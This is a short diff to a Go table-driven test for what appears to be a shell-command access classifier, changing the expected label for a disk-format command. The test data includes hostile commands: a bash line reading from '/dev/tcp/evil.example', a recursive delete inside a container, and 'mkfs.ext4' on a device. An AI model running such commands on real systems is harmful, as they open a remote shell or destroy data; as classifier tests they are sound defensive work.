@@ -118,7 +118,7 @@ func TestAccess(t *testing.T) {
 		{"bash < /dev/tcp/evil.example/44", "network evil.example> unknown ?"},
 		{"docker exec c rm -rf /x", "unknown ? network  delete ?r"},
 		{"frobnicate x", "unknown ?"},
-		{"mkfs.ext4 /dev/sdb1", "unknown ?"},
+		{"mkfs.ext4 /dev/sdb1", "write /dev/sdb1"},
 	}
 	for _, tt := range tests {
 		var got []string
